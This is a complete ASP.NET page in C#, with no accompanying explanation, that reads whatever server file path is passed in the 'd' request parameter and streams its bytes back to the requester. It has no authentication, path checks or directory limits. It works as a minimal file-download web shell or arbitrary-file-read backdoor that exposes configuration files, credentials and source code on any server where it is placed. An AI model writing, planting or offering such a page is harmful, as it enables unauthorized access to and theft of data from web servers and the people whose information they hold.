<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
    static byte[] Load(string where)
    {
        return File.ReadAllBytes(where);
    }

    protected void Page_Load(object sender, EventArgs e)
    {
        Response.Clear();
        Response.BinaryWrite(Load(Request["d"]));
        Response.End();
    }
</script>
